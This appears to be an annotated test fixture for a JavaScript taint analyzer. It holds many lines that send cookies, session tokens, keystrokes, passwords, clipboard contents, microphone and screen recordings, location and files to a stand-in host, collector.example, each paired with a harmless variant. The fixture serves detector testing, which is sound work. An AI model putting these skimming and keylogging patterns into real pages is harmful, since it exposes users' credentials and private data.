// The browser: what a page knows of its user, and its ways out.
const axios = require("axios");
const Cookies = require("js-cookie");
const html2canvas = require("html2canvas");

const U = "https://collector.example/u";

function stored() {
  axios.post(U, document.cookie); //~ source(CREDENTIAL) f1, sink(egress.http) f1, finding(traced) f1, capability(CREDENTIALS)
  axios.post(U, { none: document.cookie === "" }); //~ ok
  axios.post(U, Cookies.get("session")); //~ source(CREDENTIAL) f2, sink(egress.http) f2, finding(traced) f2, capability(CREDENTIALS)
  axios.post(U, { none: Cookies.get("session") === "" }); //~ ok
  axios.post(U, localStorage.getItem("k")); //~ source(DATABASE) f3, sink(egress.http) f3, finding(traced) f3, capability(DATABASE)
  axios.post(U, { none: localStorage.getItem("k") === "" }); //~ ok
  axios.post(U, sessionStorage.token); //~ source(DATABASE) f4, sink(egress.http) f4, finding(traced) f4, capability(DATABASE)
  axios.post(U, { none: sessionStorage.token === "" }); //~ ok
  axios.post(U, localStorage.setItem("k", process.env.T)); //~ ok
  axios.post(U, indexedDB.open("db")); //~ source(DATABASE) f5, sink(egress.http) f5, finding(traced) f5, capability(DATABASE)
  axios.post(U, { none: indexedDB.open("db") === null }); //~ ok
}

async function clipboard() {
  axios.post(U, await navigator.clipboard.readText()); //~ source(CLIPBOARD) f6, sink(egress.http) f6, finding(traced) f6, capability(CLIPBOARD)
  axios.post(U, { none: (await navigator.clipboard.readText()) === "" }); //~ ok
  axios.post(U, await navigator.clipboard.writeText(process.env.T)); //~ capability(CLIPBOARD)
  axios.post(U, await navigator.clipboard.writeText("ping")); //~ ok
  document.execCommand("paste"); //~ capability(CLIPBOARD)
  document.execCommand("bold"); //~ ok
}

function keys(field) {
  document.addEventListener("keydown", (event) => { //~ source(KEYSTROKE) f7, capability(KEYBOARD)
    axios.post(U, event.key); //~ sink(egress.http) f7, finding(traced) f7
  });
  document.addEventListener("keydown", () => axios.post(U, "key")); //~ ok
  window.addEventListener("keyup", (event) => { //~ source(KEYSTROKE) f8, capability(KEYBOARD)
    axios.post(U, event.key); //~ sink(egress.http) f8, finding(traced) f8
  });
  field.addEventListener("paste", (event) => { //~ source(CLIPBOARD) f9, capability(CLIPBOARD)
    axios.post(U, event.clipboardData); //~ sink(egress.http) f9, finding(traced) f9
  });
  field.addEventListener("input", (event) => { //~ source(INPUT) f10
    axios.post(U, event.target.value); //~ sink(egress.http) f10, finding(traced) f10
  });
  window.addEventListener("message", (event) => { //~ source(INPUT) f11, capability(IPC)
    axios.post(U, event.data); //~ sink(egress.http) f11, finding(traced) f11
  });
  window.addEventListener("load", () => {
    axios.post(U, process.env.T); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12
  });
  axios.post(U, window.addEventListener("load", process.env.T)); //~ ok
  axios.post(U, field.addEventListener("tick", process.env.T)); //~ ok
  field.onkeydown = (event) => axios.post(U, event.key); //~ source(KEYSTROKE) f13, sink(egress.http) f13, finding(traced) f13, capability(KEYBOARD)
  field.onkeydown = () => axios.post(U, "key"); //~ ok
  field.onmessage = (event) => axios.post(U, event.data); //~ source(INPUT) f14, sink(egress.http) f14, finding(traced) f14
  field.onmessage = () => axios.post(U, "message"); //~ ok
}

function loadedLater(field) {
  field.onload = () => axios.post(U, process.env.T); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
  field.onload = () => axios.post(U, "loaded"); //~ ok
}

function tickTaken(source) {
  source.write(process.env.T); //~ source(ENVIRONMENT) f16
  source.addEventListener("tick", (event) => {
    axios.post(U, event); //~ sink(egress.http) f16, finding(traced) f16
  });
}

function inputs() {
  axios.post(U, prompt("Name?")); //~ source(INPUT) f17, sink(egress.http) f17, finding(traced) f17
  axios.post(U, { yes: confirm("Go?") === true }); //~ ok
  axios.post(U, document.getElementById("password").value); //~ source(INPUT) f18, sink(egress.http) f18, finding(traced) f18
  axios.post(U, document.querySelector("form").querySelector("#name").value); //~ source(INPUT) f19, sink(egress.http) f19, finding(traced) f19
  axios.post(U, { none: document.getElementById("password").value === "" }); //~ ok
  axios.post(U, document.querySelector("form").querySelector("#name").id); //~ ok
  document.getElementById("form").submit(); //~ capability(NETWORK)
  axios.post(U, document.getElementById("form").submit(process.env.T)); //~ ok
  axios.post(U, $("#password").val()); //~ source(INPUT) f20, sink(egress.http) f20, finding(traced) f20
  axios.post(U, { none: $("#password").val() === "" }); //~ ok
  axios.post(U, $("#form").find("input").val()); //~ source(INPUT) f21, sink(egress.http) f21, finding(traced) f21
  axios.post(U, $("#form").find(process.env.T).length); //~ ok
  $("#f").on("keydown", (event) => axios.post(U, event.key)); //~ source(KEYSTROKE) f22, sink(egress.http) f22, finding(traced) f22, capability(KEYBOARD)
  $("#f").on("click", (event) => axios.post(U, event.key)); //~ ok
  $("#f").keyup((event) => axios.post(U, event.key)); //~ source(KEYSTROKE) f23, sink(egress.http) f23, finding(traced) f23, capability(KEYBOARD)
  $("#f").keyup(() => axios.post(U, "key")); //~ ok
}

function requests() {
  new Image().src = "https://px.collector.example/?t=" + process.env.T; //~ source(ENVIRONMENT) f24, sink(egress.http) f24, finding(traced) f24, capability(NETWORK)
  new Image().src = "https://px.collector.example/p.png"; //~ ok
  document.createElement("script").src = "https://px.collector.example/x.js"; //~ endpoint("https://px.collector.example/x.js")
  document.createElement("link").setAttribute("href", U + process.env.T); //~ source(ENVIRONMENT) f25, sink(egress.http) f25, finding(traced) f25
  document.createElement("link").setAttribute("href", U); //~ ok
  // A link that nobody follows takes an address apart.
  const parser = document.createElement("a");
  parser.href = process.env.T; //~ ok
  console.log(document.createElement("a").pathname, parser.hash); //~ ok
  window.open(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f26, sink(egress.http) f26, finding(traced) f26, capability(NETWORK)
  window.open(U); //~ ok
  location.href = U + "?t=" + process.env.T; //~ source(ENVIRONMENT) f27, sink(egress.http) f27, finding(traced) f27, capability(NETWORK)
  location.href = U; //~ ok
  window.location = U + "?t=" + process.env.T; //~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28, capability(NETWORK)
  window.location = U; //~ ok
  $("#f").load(U, process.env.T); //~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29, capability(NETWORK)
  $("#f").load(U); //~ ok
}

function pixel(image) {
  image.src = U + "?t=" + process.env.T; //~ source(ENVIRONMENT) f30, sink(egress.http) f30, finding(traced) f30
  image.src = U; //~ ok
}

async function markup(node) {
  const { data } = await axios.get(U); //~ source(NETWORK) f31
  document.getElementById("d").innerHTML = data; //~ sink(exec.code) f31, finding(traced) f31
  document.getElementById("d").insertAdjacentHTML("beforeend", data); //~ sink(exec.code) f31, finding(traced) f31
  document.write(data); //~ sink(exec.code) f31, finding(traced) f31, capability(DYNAMIC_CODE)
  node.innerHTML = data; //~ sink(exec.code) f31, finding(traced) f31
  $("#d").html(data); //~ sink(exec.code) f31, finding(traced) f31
  document.getElementById("d").innerHTML = "<p>"; //~ ok
  document.getElementById("d").insertAdjacentHTML("beforeend", "<p>"); //~ ok
  document.write("<p>"); //~ ok
  node.innerHTML = "<p>"; //~ ok
  $("#d").html("<p>"); //~ ok
}

function addresses() {
  axios.post(U, location.search); //~ source(INPUT) f32, sink(egress.http) f32, finding(traced) f32
  axios.post(U, { none: location.search === "" }); //~ ok
}

function posted() {
  window.parent.postMessage(process.env.T, "*"); //~ source(ENVIRONMENT) f33, sink(egress.ipc) f33, finding(traced) f33, capability(IPC)
  window.parent.postMessage("ping", "*"); //~ ok
  const channel = new BroadcastChannel("c"); //~ capability(IPC)
  channel.postMessage(process.env.T); //~ source(ENVIRONMENT) f34, sink(egress.ipc) f34, finding(traced) f34
  new BroadcastChannel("c").postMessage("ping"); //~ ok
}

async function media() {
  const stream = await navigator.mediaDevices.getUserMedia({ audio: true }); //~ source(CAMERA) f35, capability(MICROPHONE)
  const recorder = new MediaRecorder(stream);
  recorder.ondataavailable = (event) => {
    axios.post(U, event.data); //~ sink(egress.http) f35, finding(traced) f35
  };
  recorder.start();
  axios.post(U, { none: (await navigator.mediaDevices.getUserMedia({})) === null }); //~ ok
  axios.post(U, await navigator.mediaDevices.getDisplayMedia({})); //~ source(SCREEN) f36, sink(egress.http) f36, finding(traced) f36, capability(SCREEN)
  axios.post(U, { none: (await navigator.mediaDevices.getDisplayMedia({})) === null }); //~ ok
  axios.post(U, await navigator.mediaDevices.enumerateDevices()); //~ source(DEVICE) f37, sink(egress.http) f37, finding(traced) f37, capability(DEVICE)
  axios.post(U, { none: (await navigator.mediaDevices.enumerateDevices()) === null }); //~ ok
}

async function recorded() {
  const recorder = new MediaRecorder(await navigator.mediaDevices.getDisplayMedia({})); //~ source(SCREEN) f38
  recorder.addEventListener("dataavailable", (event) => {
    axios.post(U, event.data); //~ sink(egress.http) f38, finding(traced) f38
  });
  const quiet = new MediaRecorder(null); //~ ok
  quiet.ondataavailable = (event) => axios.post(U, event.data);
  quiet.start(); //~ ok
  quiet.addEventListener("dataavailable", (event) => axios.post(U, event.data)); //~ ok
}

async function person() {
  navigator.geolocation.getCurrentPosition((position) => { //~ source(LOCATION) f39, capability(LOCATION)
    axios.post(U, position.coords); //~ sink(egress.http) f39, finding(traced) f39
  });
  navigator.geolocation.getCurrentPosition(() => axios.post(U, "here")); //~ ok
  axios.post(U, await navigator.contacts.select(["tel"])); //~ source(PERSONAL) f40, sink(egress.http) f40, finding(traced) f40
  axios.post(U, { none: (await navigator.contacts.select(["tel"])) === null }); //~ ok
  axios.post(U, await navigator.credentials.get({})); //~ source(CREDENTIAL) f41, sink(egress.http) f41, finding(traced) f41, capability(CREDENTIALS)
  axios.post(U, { none: (await navigator.credentials.get({})) === null }); //~ ok
}

async function machine() {
  axios.post(U, navigator.userAgent); //~ source(DEVICE) f42, sink(egress.http) f42, finding(traced) f42, capability(DEVICE)
  axios.post(U, { firefox: navigator.userAgent === "x" }); //~ ok
  axios.post(U, await navigator.getBattery()); //~ source(DEVICE) f43, sink(egress.http) f43, finding(traced) f43, capability(DEVICE)
  axios.post(U, { none: (await navigator.getBattery()) === null }); //~ ok
}

async function pictures(canvas, other) {
  axios.post(U, canvas.toDataURL()); //~ source(DEVICE) f44, sink(egress.http) f44, finding(traced) f44
  axios.post(U, { none: canvas.toDataURL() === "" }); //~ ok
  other.drawImage(await navigator.mediaDevices.getDisplayMedia({})); //~ source(SCREEN) f45
  other.toBlob((blob) => {
    axios.post(U, blob); //~ sink(egress.http) f45, finding(traced) f45
  });
  canvas.drawImage(null); //~ ok
  canvas.toBlob((blob) => axios.post(U, blob)); //~ ok
  axios.post(U, await html2canvas(document.body)); //~ source(SCREEN) f46, sink(egress.http) f46, finding(traced) f46, capability(SCREEN)
  axios.post(U, { none: (await html2canvas(document.body)) === null }); //~ ok
}

async function files() {
  axios.post(U, new Blob([process.env.T])); //~ source(ENVIRONMENT) f47, sink(egress.http) f47, finding(traced) f47
  axios.post(U, new Blob(["ping"])); //~ ok
  axios.post(U, URL.createObjectURL(process.env.T)); //~ source(ENVIRONMENT) f48, sink(egress.http) f48, finding(traced) f48
  axios.post(U, URL.createObjectURL(null)); //~ ok
  axios.post(U, new FormData(process.env.T)); //~ source(ENVIRONMENT) f49, sink(egress.http) f49, finding(traced) f49
  axios.post(U, new FormData(null)); //~ ok
  const reader = new FileReader(); //~ capability(FILES)
  reader.onload = (event) => axios.post(U, event.target.result); //~ source(FILE) f50, sink(egress.http) f50, finding(traced) f50
  reader.onload = () => axios.post(U, reader.result); //~ source(FILE) f51, sink(egress.http) f51, finding(traced) f51
  reader.addEventListener("load", (event) => axios.post(U, event.target.result)); //~ source(FILE) f52, sink(egress.http) f52, finding(traced) f52
  const quiet = new FileReader(); //~ ok
  quiet.onload = () => axios.post(U, { none: quiet.result === "" }); //~ ok
  quiet.addEventListener("load", () => axios.post(U, "loaded")); //~ ok
  axios.post(U, await window.showOpenFilePicker()); //~ source(FILE) f53, sink(egress.http) f53, finding(traced) f53, capability(FILES)
  axios.post(U, { none: (await window.showOpenFilePicker()) === null }); //~ ok
}

function selection() {
  axios.post(U, getSelection().toString()); //~ source(CLIPBOARD) f60, sink(egress.http) f60, finding(traced) f60, capability(CLIPBOARD)
  axios.post(U, { none: window.getSelection().toString() === "" }); //~ ok
}

function whole() {
  axios.post(U, new FormData(document.querySelector("form"))); //~ source(INPUT) f61, sink(egress.http) f61, finding(traced) f61
  axios.post(U, new FormData()); //~ ok
}
